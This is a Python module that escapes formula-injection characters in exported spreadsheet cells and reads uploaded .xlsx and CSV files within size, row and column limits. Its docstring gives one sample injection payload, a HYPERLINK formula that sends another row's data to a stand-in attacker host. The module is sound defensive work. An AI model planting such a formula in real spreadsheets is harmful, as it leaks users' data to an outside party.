"""Spreadsheets in and out: formula-safe cells for every writer, bounded reads for every upload.

Writing: :func:`safe_cell` is the one rule against formula injection. A text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what Excel and LibreOffice run as
a formula (``=HYPERLINK("http://evil.example/?q="&I2,"详情")`` in an applicant's name would leak
another row when clicked); such text gets a leading single quote, as the CSV writer does.
Numbers, dates and booleans are left as they are. Every .xlsx and .csv writer passes its
values through it.

Reading: an uploaded table is never listed whole and never sized by what it says about itself.
:func:`xlsx_rows` streams one worksheet (its own bounded XML walk over openpyxl's cell parser,
so ``<dimension ref="A1:XFD1048576">`` and a cell at XFD1 cost nothing), reads at most
``max_cols`` columns of a row, drops blank rows as it goes, counts the others while reading and
stops with a :class:`SpreadsheetLimitError` naming the file and the limit past ``max_rows``.
:func:`open_xlsx` first refuses a workbook whose parts unzip to more than the limits below
(the zip sizes are enforced by ``zipfile`` while inflating); :func:`csv_rows` does the same for
CSV text. Memory stays bounded by the limits, whatever the file.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Generator, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any, TypeVar

from gongkai.core.errors import GongkaiError

#: A text cell starting with one of these is run as a formula by spreadsheet programs.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Unzipped size of one worksheet or of the shared strings (streamed, but read to the end).
MAX_PART_BYTES = 64 * 1024 * 1024
#: Distinct texts of a workbook (a 20,000-row ledger of 16 columns has at most 320,000).
MAX_SHARED_STRINGS = 400_000
#: Unzipped size of any other part openpyxl parses whole (workbook, styles, relations …).
MAX_OTHER_PART_BYTES = 4 * 1024 * 1024
#: Excel's last column (XFD); a cell further right is not in a real sheet.
MAX_SHEET_COLUMNS = 16_384
#: Blank rows skipped before a file is refused as padded (a real table has a handful).
MAX_BLANK_ROWS = 100_000
#: Elements inside one cell (value, formula, rich-text runs); a real cell has a few.
_MAX_CELL_ELEMENTS = 10_000

_T = TypeVar("_T")


class SpreadsheetError(GongkaiError):
    """An uploaded table that cannot be read; the message names the file (and the limit)."""


class SpreadsheetLimitError(SpreadsheetError):
    """An uploaded table past one of its limits (rows, blank rows, unzipped size)."""


class TooManyRows(SpreadsheetLimitError):
    """More non-blank rows than the reader was allowed to read (``max_rows``)."""


def safe_cell(value: _T) -> _T | str:
    """``value`` as a spreadsheet cell that is never run as a formula.

    Text starting with ``= + - @``, tab or CR gets a leading ``'``; other values are unchanged
    (numbers stay numbers, dates stay dates).
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(*values: object) -> list[object]:
    """A row for ``sheet.append``: every value through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]


def unquote_cell(value: _T) -> _T | str:
    """The text :func:`safe_cell` protected, read back from a file gongkai wrote."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def is_blank(values: Sequence[object]) -> bool:
    """True when no cell of the row holds anything but whitespace."""
    return all(v is None or (isinstance(v, str) and not v.strip()) for v in values)


Row = tuple[int, tuple[object, ...]]


# ---------------------------------------------------------------------------------------------
# .xlsx
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Sheet:
    """A worksheet of an open workbook: its title, whether it is shown, and its reader's handle."""

    title: str
    visible: bool
    handle: Any


class Workbook:
    """An uploaded .xlsx opened for bounded reading (:func:`open_xlsx`)."""

    def __init__(self, book: Any, name: str) -> None:
        self._book = book
        self.name = name

    @property
    def sheets(self) -> list[Sheet]:
        return [
            Sheet(str(ws.title), getattr(ws, "sheet_state", "visible") == "visible", ws) for ws in self._book.worksheets
        ]

    def rows(self, sheet: Sheet, *, max_rows: int, max_cols: int) -> Generator[Row, None, None]:
        """The non-blank rows of ``sheet`` as (row number, first ``max_cols`` values), streamed."""
        return xlsx_rows(self._book, sheet, name=self.name, max_rows=max_rows, max_cols=max_cols)


@contextmanager
def open_xlsx(data: bytes, name: str) -> Iterator[Workbook]:
    """Open an .xlsx upload read-only after checking its parts' unzipped sizes."""
    _check_zip(data, name)
    try:
        reader = _bounded_reader(io.BytesIO(data), name)
        reader.read()
        book = reader.wb
    except SpreadsheetError:
        raise
    except Exception as exc:  # zipfile, XML, KeyError …: openpyxl raises many kinds on a damaged file
        raise SpreadsheetError(f"文件“{name}”不是有效的 Excel（.xlsx）文件，无法打开（{type(exc).__name__}）") from None
    try:
        yield Workbook(book, name)
    finally:
        book.close()


def _bounded_reader(source: io.BytesIO, name: str) -> Any:
    """openpyxl's read-only workbook reader (``load_workbook``), its shared strings read by
    :func:`_shared_strings` (bounded) instead of openpyxl's table, which keeps every parsed node."""
    from openpyxl.reader.excel import SHARED_STRINGS, ExcelReader

    class BoundedReader(ExcelReader):  # type: ignore[misc]
        def read_strings(self) -> None:
            part = self.package.find(SHARED_STRINGS)
            if part is not None:
                with self.archive.open(part.PartName[1:]) as src:
                    self.shared_strings = _shared_strings(src, name)

    return BoundedReader(source, read_only=True, data_only=True)


def _shared_strings(source: Any, name: str) -> list[str]:
    """The shared-string table (``<si>``: text, or rich-text runs), streamed, each node dropped
    once read; more than :data:`MAX_SHARED_STRINGS` entries is refused."""
    from openpyxl.xml.constants import SHEET_MAIN_NS
    from openpyxl.xml.functions import iterparse

    si, t, r = (f"{{{SHEET_MAIN_NS}}}{tag}" for tag in ("si", "t", "r"))
    strings: list[str] = []
    root = None
    inside = 0  # elements of the current entry, kept until it ends
    for event, element in iterparse(source, events=("start", "end")):
        if event == "start":
            if root is None:
                root = element
            inside += 1
            if inside > _MAX_CELL_ELEMENTS:
                raise SpreadsheetLimitError(f"文件“{name}”的共享字符串结构异常")
            continue
        if element.tag != si:
            continue
        inside = 0
        text = (element.findtext(t) or "") + "".join(run.findtext(t) or "" for run in element.findall(r))
        strings.append(text.replace("x005F_", ""))
        if len(strings) > MAX_SHARED_STRINGS:
            raise SpreadsheetLimitError(f"文件“{name}”的共享字符串超过 {MAX_SHARED_STRINGS} 个，不像是一张正常的表格")
        element.clear()
        if root is not None:
            root.remove(element)
    return strings


def _check_zip(data: bytes, name: str) -> None:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = archive.infolist()
    except (zipfile.BadZipFile, OSError, ValueError, EOFError):
        raise SpreadsheetError(f"文件“{name}”不是有效的 Excel（.xlsx）文件，无法打开") from None
    for info in members:
        streamed = info.filename.startswith("xl/worksheets/") or info.filename == "xl/sharedStrings.xml"
        limit = MAX_PART_BYTES if streamed else MAX_OTHER_PART_BYTES
        if info.file_size > limit:
            raise SpreadsheetLimitError(
                f"文件“{name}”解压后的“{info.filename}”有 {info.file_size / 2**20:.0f} MB，"
                f"超过 {limit // 2**20} MB 的上限，不像是一张正常的表格"
            )


_CELL_COLUMN = re.compile(r"^([A-Za-z]{1,3})")


def _column_of(ref: str) -> int:
    match = _CELL_COLUMN.match(ref)
    if match is None:
        raise ValueError(ref)
    number = 0
    for letter in match.group(1).upper():
        number = number * 26 + ord(letter) - 64
    return number


def xlsx_rows(book: Any, sheet: Sheet, *, name: str, max_rows: int, max_cols: int) -> Generator[Row, None, None]:
    """Stream ``sheet``'s non-blank rows; raise :class:`SpreadsheetLimitError` past ``max_rows``.

    The walk keeps only the open elements and the current cell: every finished row, cell and
    other element is removed from its parent at once, so neither a giant ``<dimension>``, nor a
    row of a million cells, nor a million rows ever sits in memory.
    """
    from openpyxl.worksheet._reader import WorkSheetParser
    from openpyxl.xml.constants import SHEET_MAIN_NS
    from openpyxl.xml.functions import iterparse

    ws = sheet.handle
    row_tag, cell_tag = f"{{{SHEET_MAIN_NS}}}row", f"{{{SHEET_MAIN_NS}}}c"
    tags = _Tags(*(f"{{{SHEET_MAIN_NS}}}{tag}" for tag in ("v", "is", "t", "r")))
    strings = ws._shared_strings
    counted = blank = 0
    try:
        with ws._get_source() as source:  # openpyxl 3.1's read-only sheet source (pinned version)
            parser = WorkSheetParser(
                source,
                ws._shared_strings,
                data_only=True,
                epoch=book.epoch,
                date_formats=getattr(book, "_date_formats", set()),
                timedelta_formats=getattr(book, "_timedelta_formats", set()),
            )
            stack: list[Any] = []
            values: list[object] = []
            row_number = 0
            cell_depth = 0
            in_cell = 0
            for event, element in iterparse(source, events=("start", "end")):
                if event == "start":
                    stack.append(element)
                    if element.tag == row_tag:
                        ref = element.get("r")
                        row_number = int(ref) if ref else row_number + 1
                        parser.row_counter, parser.col_counter = row_number, 0
                        values = [None] * max_cols
                    elif element.tag == cell_tag:
                        cell_depth = len(stack)
                    elif cell_depth and len(stack) > cell_depth:
                        in_cell += 1
                        if in_cell > _MAX_CELL_ELEMENTS:
                            raise SpreadsheetLimitError(
                                f"文件“{name}”工作表“{sheet.title}”第 {row_number} 行的单元格结构异常"
                            )
                    continue
                stack.pop()
                if cell_depth and len(stack) >= cell_depth:
                    continue  # a child of the cell: kept until the cell is read
                if element.tag == cell_tag:
                    cell_depth, in_cell = 0, 0
                    ref = element.get("r")
                    column = _column_of(ref) if ref else parser.col_counter + 1
                    parser.col_counter = column
                    if column > MAX_SHEET_COLUMNS:
                        raise SpreadsheetLimitError(
                            f"文件“{name}”工作表“{sheet.title}”第 {row_number} 行超过 {MAX_SHEET_COLUMNS} 列"
                            "（Excel 的上限），不是一张正常的表格"
                        )
                    if column <= max_cols:
                        values[column - 1] = _cell_value(element, parser, strings, tags)
                elif element.tag == row_tag:
                    while values and values[-1] is None:
                        values.pop()
                    if is_blank(values):
                        blank += 1
                        if blank > MAX_BLANK_ROWS:
                            raise SpreadsheetLimitError(_too_many_blank(name, sheet.title))
                    else:
                        counted += 1
                        if counted > max_rows:
                            raise TooManyRows(_too_many_rows(name, max_rows, sheet.title))
                        yield row_number, tuple(values)
                    values = []
                element.clear()
                if stack:
                    stack[-1].remove(element)
    except SpreadsheetError:
        raise
    except Exception as exc:  # a damaged part: bad XML, a shared string that is not there …
        raise SpreadsheetError(f"文件“{name}”的工作表“{sheet.title}”已损坏，无法读取（{type(exc).__name__}）") from None


@dataclass(frozen=True, slots=True)
class _Tags:
    v: str
    inline: str
    t: str
    r: str


def _cell_value(element: Any, parser: Any, strings: list[str], tags: _Tags) -> object:
    """A cell's value: text read here (the common case, fast), anything else by openpyxl's
    ``parse_cell`` (numbers, dates by their number format, errors)."""
    kind = element.get("t")
    if kind == "s":
        index = element.findtext(tags.v)
        if not index:
            return None
        if int(index) < 0:
            raise IndexError(index)
        return strings[int(index)]
    if kind == "inlineStr":
        inline = element.find(tags.inline)
        if inline is None:
            return None
        return (inline.findtext(tags.t) or "") + "".join(run.findtext(tags.t) or "" for run in inline.findall(tags.r))
    if kind == "str":
        return element.findtext(tags.v)
    return parser.parse_cell(element)["value"]


def _too_many_rows(name: str, limit: int, title: str | None = None) -> str:
    where = f"文件“{name}”" + (f"的工作表“{title}”" if title else "")
    return f"{where}超过 {limit} 行（上限 {limit} 行），未读取；请分批导入"


def _too_many_blank(name: str, title: str | None = None) -> str:
    where = f"文件“{name}”" + (f"的工作表“{title}”" if title else "")
    return f"{where}中的空白行超过 {MAX_BLANK_ROWS} 行，不像是一张正常的表格；请删除空白行后重新上传"


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------


def csv_rows(text: str, *, name: str, max_rows: int, max_cols: int, dialect: Any = csv.excel) -> Iterator[Row]:
    """Stream the non-blank rows of CSV text as (record number, first ``max_cols`` fields)."""
    counted = blank = 0
    reader = csv.reader(io.StringIO(text, newline=""), dialect)
    try:
        for number, values in enumerate(reader, start=1):
            if is_blank(values):
                blank += 1
                if blank > MAX_BLANK_ROWS:
                    raise SpreadsheetLimitError(_too_many_blank(name))
                continue
            counted += 1
            if counted > max_rows:
                raise TooManyRows(_too_many_rows(name, max_rows))
            yield number, tuple(values[:max_cols])
    except csv.Error as exc:
        raise SpreadsheetError(f"文件“{name}”不是有效的 CSV 文件（第 {reader.line_num} 行：{exc}）") from None
